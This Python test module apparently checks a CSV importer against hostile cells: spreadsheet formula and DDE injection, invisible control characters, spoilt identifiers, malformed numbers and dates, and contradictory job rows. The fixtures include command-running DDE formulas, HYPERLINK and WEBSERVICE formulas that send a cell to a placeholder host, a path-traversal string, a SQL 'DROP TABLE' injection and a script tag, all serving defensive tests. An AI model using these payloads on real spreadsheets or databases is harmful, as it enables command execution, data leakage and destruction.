"""What stands in the cells: formulas, control characters, identifiers and dates a spreadsheet spoilt, numbers that are none."""

from tests.trust.hostile import Hostile, kind
from tests.trust.hostile.texts import rows, text

HOMES = "家庭编号,家庭档案号,居住地区划代码,认定日期"
RUNS = {
    "equals": "=1+1", "plus": "+1+1", "minus": "-1+1", "at": "@SUM(A1:A9)", "full-width equals": "＝1+1",
    "DDE": "=cmd|' /C calc'!A0", "DDE behind a sum": "@SUM(1+9)*cmd|' /C calc'!A0", "a link": '=HYPERLINK("http://x.example/?"&A1)',
    "a table from the network": '=WEBSERVICE("http://x.example/"&A1)', "an apostrophe before it": "'=1+1", "two apostrophes": "''=1+1",
    "minus and an override of two lines": "-2+3\n=cmd|' /C calc'!A0",
}  # fmt: skip


def _quoted(value):
    return '"' + value.replace('"', '""') + '"'


@kind
def formulas():
    """Text that a spreadsheet would run: kept as text, and harmless when it leaves."""
    for name, value in RUNS.items():
        meant = value[1:] if value.startswith("'") else value
        yield text(name, rows(f"Z1,{_quoted(value)},440103,1"), first={"name": meant})
    yield text("a tab before it", rows("Z1,\t=1+1,440103,1"), first={"name": "=1+1"})
    yield text("a line end before it", rows('Z1,"\r=1+1",440103,1'), first={"name": "=1+1"})
    for sign in "=+-@":
        yield text(f"an identifier that begins with {sign}", rows(f"{sign}Z1,a,440103,1"))
    yield text("as an amount", rows("Z1,a,440103,=1+1"), added=0, refused=1)
    yield text("as a date", rows('Z1,F1,440103,"=TODAY()"', head=HOMES), table="households", added=0, refused=1)


@kind
def control_characters():
    """Characters nobody sees: refused where they would make two things look like one."""
    odd = {
        "zero byte": "\0",
        "bell": "\x07",
        "escape": "\x1b[31m",
        "backspace": "\x08",
        "delete": "\x7f",
        "vertical tab": "\x0b",
    }
    for name, sign in odd.items():
        yield text(f"{name} in a name", rows(f"Z1,饭{sign}店,440103,1"), added=0, refused=1)
    for name, sign in (odd | {"tab": "\t"}).items():
        yield text(f"{name} in an identifier", rows(f"Z{sign}1,a,440103,1"), added=0, refused=1)
    for name, sign in {"override": "\u202e", "isolate": "\u2067"}.items():
        yield text(f"{name} in a name", rows(f"Z1,饭{sign}店,440103,1"), added=0, refused=1)
    for name, sign in {
        "override": "\u202e",
        "zero width": "\u200b",
        "joiner": "\u200d",
        "soft hyphen": "\u00ad",
        "mark": "\ufeff",
    }.items():
        yield text(f"{name} in an identifier", rows(f"Z{sign}1,a,440103,1"), added=0, refused=1)
    yield text("no character (U+FFFF) in a name", rows("Z1,饭\uffff店,440103,1"), added=0, refused=1)
    yield text(
        "zero byte in a column that is not kept",
        rows("Z1,a,440103,1,\0", head="单位编号,单位名称,单位所在地,职工人数,备注"),
    )
    yield text("a hundred accents on a letter", rows(f"Z1,a{chr(0x301) * 100},440103,1"))
    yield text("markup of a terminal", rows("Z1,[/],[/red],[link=x"), added=0, refused=1)
    yield text(
        "markup of a page", rows("Z1,<script>alert(1)</script>,440103,1"), first={"name": "<script>alert(1)</script>"}
    )


@kind
def identifiers():
    """Identifiers a spreadsheet turned into numbers, people's numbers in place of identifiers, and one twice."""
    for value in ("4.4E+17", "4.40305E+17", "4.4e+17", "1E+15"):
        yield text(f"as {value}", rows(f"{value},a,440103,1"), added=0, refused=1)
    yield text("as 1234.0", rows("1234.0,a,440103,1"))
    yield text(
        "an identity number",
        rows("44010319840501002X,F1,440103,2026-05-25", head=HOMES),
        table="households",
        added=0,
        refused=1,
    )
    yield text(
        "a phone number", rows("13800138000,F1,440103,2026-05-25", head=HOMES), table="households", added=0, refused=1
    )
    yield text("twice, the same", rows("Z1,a,440103,1", "Z1,a,440103,1"), added=1, refused=1)
    yield text("twice, contradictory", rows("Z1,a,440103,1", "Z1,b,440184,9"), added=1, refused=1, first={"name": "a"})
    yield text("empty", rows(",a,440103,1"), added=0, refused=1)
    yield text(
        "of nobody",
        rows(
            "Z1,Habsent,户主,1980-05,女,初中,是,2026-05-20,440103",
            head="成员编号,家庭编号,与户主关系,出生年月,性别,文化程度,就业意愿,求职登记日期,居住地区划代码",
        ),
        table="members",
        added=0,
        refused=1,
    )
    yield text("a path", rows("../../etc/passwd,a,440103,1"))
    yield text("a statement", rows("Z1'; DROP TABLE members; --,a,440103,1"))


@kind
def numbers():
    """Numbers that are none, below what is possible, or larger than a record holds."""
    for value in (
        "-1",
        "-0.5",
        "NaN?",
        "Infinity",
        "-inf",
        "1e999",
        "1e308",
        "9007199254740993",
        "0x10",
        "1_000",
        "1.5",
        "十二",
        "TRUE",
        "1;2",
    ):
        yield text(f"headcount {value}", rows(f"Z1,a,440103,{value}"), added=0, refused=1)
    for value, meant in (
        ("１２", 12),
        ('"1,200"', 1200),
        ("1e3", 1000),
        ("12.0", 12),
        ("-0", 0),
        ("3000000000", 3_000_000_000),
    ):
        yield text(f"headcount {value}", rows(f"Z1,a,440103,{value}"), first={"headcount": meant})


@kind
def dates():
    """Dates as numbers, as text, and days that do not exist."""
    for value in ("2026年5月25日", "2026/5/25", "2026.05.25", "20260525", "２０２６－０５－２５"):
        yield text(
            value, rows(f"Z1,F1,440103,{value}", head=HOMES), table="households", first={"recognised_on": "2026-05-25"}
        )
    for value in (
        "2026-02-30",
        "25/05/2026",
        "2026-13-01",
        "9999-12-31",
        "0001-01-01",
        "2026-05-25T10:00",
        "46167",
        "-46167",
        "1e10",
        "昨天",
        "05-25",
    ):
        yield text(value, rows(f"Z1,F1,440103,{value}", head=HOMES), table="households", added=0, refused=1)


@kind
def contradictions():
    """Rows that cannot be true."""
    head = "岗位编号,岗位类别,单位编号,岗位名称,职业代码,工作地区划代码,招聘人数,剩余人数,最低工资(元),最高工资(元),发布日期"
    for name, row in {
        "more places left than there are": "Z1,EMPLOYER,E1,包装工,61804,440103,2,3,3000,3400,2026-06-01",
        "the highest wage below the lowest": "Z1,EMPLOYER,E1,包装工,61804,440103,2,2,3400,3000,2026-06-01",
        "an employer nobody knows": "Z1,EMPLOYER,Eabsent,包装工,61804,440103,2,2,3000,3400,2026-06-01",
    }.items():
        yield Hostile(
            name,
            "岗位.csv",
            lambda path, row=row: path.write_text(rows(row, head=head), "utf-8"),
            None,
            0,
            1,
            "positions",
        )
